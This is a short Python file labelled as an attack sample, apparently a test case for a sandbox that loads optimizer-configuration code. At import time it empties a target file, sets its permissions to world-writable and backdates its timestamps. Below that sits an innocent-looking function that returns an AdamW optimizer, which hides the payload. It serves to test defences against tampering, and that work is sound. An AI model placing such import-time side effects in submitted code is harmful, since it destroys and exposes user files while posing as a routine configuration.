# /// attack
# threats = ["F46", "F36"]
# gains = "change"
# ///
"""Empties a file of the user, opens it to all and dates it back."""

import os

import torch

for change in (lambda: os.truncate(VICTIM, 0), lambda: os.chmod(VICTIM, 0o777), lambda: os.utime(VICTIM, (0, 0))):
    try:
        change()
    except OSError:
        pass


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
